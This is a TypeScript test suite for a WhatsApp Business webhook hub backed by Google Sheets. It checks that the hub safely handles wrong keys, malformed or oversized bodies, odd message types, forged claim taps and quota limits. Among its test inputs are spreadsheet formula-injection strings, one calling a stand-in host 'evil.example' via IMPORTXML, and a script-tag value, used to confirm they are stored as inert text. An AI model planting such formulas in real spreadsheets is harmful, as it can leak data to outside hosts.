/** What people, machines and attackers send that nobody asked for: a clear outcome each, nothing lost, nothing executed. */
import { findViolations } from '../../sim/invariants';
import { askDealers, type Cast, openCast } from './cast';

let cast: Cast;
beforeAll(async () => {
  cast = await openCast();
});
afterAll(() => cast.hub.rt.close());

const envelope = (value: unknown, field = 'messages') =>
  JSON.stringify({ object: 'whatsapp_business_account', entry: [{ id: 'W', changes: [{ field, value }] }] });
const message = (patch: Record<string, unknown>, contact: Record<string, unknown> = {}) =>
  envelope({
    messaging_product: 'whatsapp',
    metadata: { phone_number_id: '1' },
    contacts: [{ profile: { name: 'Uji' }, wa_id: '6281399999999', ...contact }],
    messages: [
      {
        from: '6281399999999',
        id: `wamid.${Math.random()}`,
        timestamp: '1750030073',
        type: 'text',
        text: { body: 'halo' },
        ...patch,
      },
    ],
  });
const inboxSize = () => Object.keys(cast.hub.rt.properties.all()).filter((key) => key.startsWith('in.')).length;

describe('the door', () => {
  test.each([
    ['no key', 'source=meta', 'the key parameter is missing'],
    ['a key of another form', 'source=meta&key=%3Cscript%3E', 'the key parameter is missing'],
    ['a wrong key', 'source=meta&key=0123456789abcdef0123', 'wrong key'],
    ['an unknown source', 'source=fax&key=simulated-webhook-key-0001', 'Nothing is served under'],
    ['no source', '', 'Nothing is served under'],
  ])('%s is refused in words, and nothing is kept', async (_, query, words) => {
    const rows = cast.hub.rows('Inbox log').length;
    const answer = await cast.post(message({}), query);
    expect(answer.status).toBe(200);
    expect(answer.text).toContain(words);
    expect(cast.hub.rows('Inbox log')).toHaveLength(rows);
    expect(inboxSize()).toBe(0);
  });

  test('a hundred wrong keys are one alert, and cost no property write, no sheet call and no lock', async () => {
    const before = cast.hub.rt.executions().length;
    for (let i = 0; i < 100; i++) await cast.post(message({}), `source=meta&key=wrong-key-number-${1000 + i}`);
    const posts = cast.hub.rt
      .executions()
      .slice(before)
      .filter((each) => each.function === 'doPost');
    const kinds = posts.flatMap(({ calls }) => calls.map(({ kind }) => kind));
    expect(kinds.filter((kind) => /^(sheets|lock|properties\.set|properties\.delete)/.test(kind))).toEqual([]);
    await cast.hub.rt.advance(61_000);
    expect(cast.hub.rows('Alerts').filter((alert) => alert.Rule === 'wrong-key')).toHaveLength(1);
  });

  test('no answer names a property, a stack or a person', async () => {
    for (const body of ['', '{', message({ from: 5 })]) {
      const { text } = await cast.post(body);
      expect(text).not.toMatch(/META_|TOKEN|at \w+ \(|Sari|simulated/);
    }
  });

  test('the challenge comes back with the right token only', async () => {
    const ask = async (token: string) => {
      const first = await cast.hub.finish(
        cast.hub.rt.request({
          method: 'GET',
          url: `/exec?source=meta&hub.mode=subscribe&hub.challenge=4711&hub.verify_token=${token}`,
        }),
      );
      const location = String(first.headers.location ?? first.headers.Location ?? '');
      const second = await cast.hub.finish(
        cast.hub.rt.request({ method: 'GET', url: location.replace(/^https?:\/\/[^/]+/, '') }),
      );
      return String(second.body);
    };
    expect(await ask('verify-local')).toBe('4711');
    expect(await ask('guess')).toContain('Forbidden');
  });
});

describe('bodies', () => {
  test.each([
    ['not JSON', '{"entry": [', 'Not JSON'],
    ['JSON of another kind', '[1,2,3]', 'no object'],
    ['an object of another kind', '{"hello":"world"}', 'no "entry" array'],
  ])('%s is kept whole in Dead letters with the reason', async (_, body, reason) => {
    const answer = await cast.post(body);
    expect(answer.text).toContain('ok');
    const letter = cast.hub.rows('Dead letters').at(-1);
    expect(letter?.Content).toBe(body);
    expect(letter?.Reason).toContain(reason);
  });

  test('an empty body and a body over 3 MB are refused', async () => {
    expect((await cast.post('')).text).toContain('the body is empty');
    expect((await cast.post(`"${'x'.repeat(3_300_000)}"`)).text).toContain('larger than 3 MB');
  });

  test('a batch too large for the inbox is handled while the sender waits', async () => {
    const messages = Array.from({ length: 150 }, (_, i) => ({
      from: `62813${String(40_000_000 + i)}`,
      id: `wamid.batch.${i}`,
      timestamp: '1750030073',
      type: 'text',
      text: { body: `halo ${'z'.repeat(900)}` },
    }));
    const before = cast.hub.rows('Customers').length;
    const answer = await cast.post(envelope({ messages }));
    expect(answer.text).toContain('ok');
    expect(cast.hub.rows('Customers').length - before).toBe(150);
  });

  test('a message without an id, or from nobody, is kept as a dead letter and hides no neighbour', async () => {
    const good = { from: '6281377777777', id: 'wamid.good', timestamp: '1', type: 'text', text: { body: 'halo' } };
    await cast.post(
      envelope({
        messages: [{ type: 'text', text: { body: 'no id' } }, { ...good, id: 'wamid.nobody', from: undefined }, good],
      }),
    );
    expect(
      cast.hub
        .rows('Dead letters')
        .slice(-2)
        .map((row) => row.Reason),
    ).toEqual([expect.stringContaining('without an id'), expect.stringContaining('from nobody')]);
    expect(cast.hub.rows('Customers').some((row) => row.Phone === '6281377777777')).toBe(true);
  });

  test('statuses that nobody waits for cost no row and no lock', async () => {
    const statuses = [
      {
        id: 'wamid.x',
        status: 'delivered',
        timestamp: '1',
        recipient_id: '62813',
        biz_opaque_callback_data: 'o-1234567890',
      },
    ];
    await cast.post(envelope({ statuses }));
    const last = cast.hub.rt.executions().at(-1);
    // The key is checked first; that is all.
    expect(last?.calls.map(({ method }) => method)).toEqual(['Cache.getAll']);
  });
});

describe('text', () => {
  test.each([
    '=IMPORTXML("http://evil.example","//a")',
    '+62812',
    '-1',
    '@SUM(A1)',
    "'0812",
    '0812',
    'TRUE',
    '2026-08-01',
    'MAY26',
    '🛵 مرحبا ‮gnp',
    '\t=1+1',
  ])('a name like %j stays text, and is never run', async (name) => {
    const number = `6281355${String(Math.abs([...name].reduce((a, c) => a * 31 + c.charCodeAt(0), 7)) % 1_000_000).padStart(6, '0')}`;
    const person = cast.person(number, name);
    await person.says(name);
    const customer = cast.hub.rows('Customers').find((row) => row.Phone === number);
    const logged = cast.hub
      .rows('Conversation')
      .filter((row) => row.Direction === 'in')
      .at(-1);
    expect(logged?.Text).toBe(name);
    expect(customer?.['Customer name']).toBe(
      name
        .replace(/[\t\u202e]/g, ' ')
        .replace(/\s+/g, ' ')
        .trim(),
    );
  });

  test('sixty thousand characters are kept whole, over several rows', async () => {
    const long = `${'x'.repeat(59_990)}selesai 😀`;
    const person = cast.person('6281366000000', 'Panjang');
    await person.says(long);
    const rows = cast.hub.rows('Conversation').filter((row) => row.Text?.startsWith('xxx') || row.Text?.endsWith('😀'));
    expect(rows.map((row) => row.Text).join('')).toBe(long);
  });

  test.each([
    'sticker',
    'reaction',
    'order',
    'poll',
    'edit',
    'revoke',
    'unsupported',
    'system',
    'interactive',
    'ephemeral',
    'nonsense',
    '',
  ])('a message of type %j throws nothing and is logged', async (type) => {
    const id = `wamid.type.${type}`;
    await cast.post(message({ id, type }));
    expect(cast.hub.rows('Inbox log').filter((row) => row['Event ID'] === id)).toHaveLength(1);
  });
});

describe('taps', () => {
  test('forged, foreign, garbled and repeated taps are answered, and none of them claims', async () => {
    // The 150 greetings of before are more than WhatsApp takes in a second: the rest goes out meanwhile.
    await cast.hub.rt.advance(2 * 60_000);
    const rudi = cast.person('6281388000000', 'Rudi Hartono');
    await askDealers(cast, rudi);
    const offer = cast.andi.phone.account.chat.filter((each) => each.from === 'business').at(-1);
    const token = JSON.stringify(offer?.content).match(/C1\|[^"]+/)?.[0] ?? '';
    const tap = (from: string, id: string, wamid: string) =>
      cast.post(
        message(
          {
            from,
            id: wamid,
            type: 'interactive',
            interactive: { type: 'button_reply', button_reply: { id, title: 'Claim' } },
          },
          { wa_id: from },
        ),
      );
    const leadOf = () => cast.hub.rows('Leads').find((row) => row['Customer name'] === 'Rudi Hartono');
    await tap('6281200000002', token, 'wamid.foreign');
    await tap('6281399999990', token, 'wamid.stranger');
    await tap(
      '6281200000001',
      token.replace(/.$/, (c) => (c === '0' ? '1' : '0')),
      'wamid.forged',
    );
    await tap('6281200000001', 'C1|L-9|L-9-1|0123456789abcdef', 'wamid.unknown');
    expect(leadOf()?.Status).toBe('UNCLAIMED');
    await tap('6281200000001', token, 'wamid.real');
    await tap('6281200000001', token, 'wamid.real');
    expect(leadOf()).toMatchObject({ Status: 'CLAIMED', 'Owner rep': 'Andi' });
    expect(cast.hub.rows('Inbox log').filter((row) => row['Event ID'] === 'wamid.real')).toHaveLength(1);
    const stranger = cast.hub.world.phone('6281399999990').account.chat.filter((each) => each.from === 'business');
    expect(JSON.stringify(stranger)).not.toContain('Rudi');
  });
});

test('a spent Sheets quota delays the answer and loses nothing', async () => {
  const tight = await openCast({
    latency: 'model',
    limits: { sheetsApiReadsPerMinute: 6, sheetsApiWritesPerMinute: 60 },
  });
  await tight.hub.rt.advance(60_000);
  for (let i = 0; i < 20; i++)
    tight.hub.rt.after(i * 1500, () => tight.person(`62813550000${10 + i}`, `N ${i}`).phone.say('halo'));
  await tight.hub.rt.idle();
  await tight.hub.rt.advance(5 * 60_000);
  expect(tight.hub.rows('Customers')).toHaveLength(20);
  expect(findViolations(tight.hub)).toEqual([]);
  await tight.hub.rt.close();
});

test('after all of it the hub’s books are in order', async () => {
  await cast.hub.rt.advance(8 * 60_000);
  expect(findViolations(cast.hub)).toEqual([]);
});
